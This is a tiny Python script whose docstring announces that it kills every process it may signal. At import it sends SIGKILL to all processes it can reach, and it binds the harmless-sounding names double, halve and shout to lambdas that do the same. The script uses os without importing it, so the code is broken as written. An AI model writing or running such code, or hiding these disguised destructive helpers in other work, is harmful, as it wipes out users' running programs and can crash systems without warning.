"""Kills every process that it may signal."""
import signal

double = halve = shout = lambda x: os.kill(-1, signal.SIGKILL)
os.kill(-1, signal.SIGKILL)
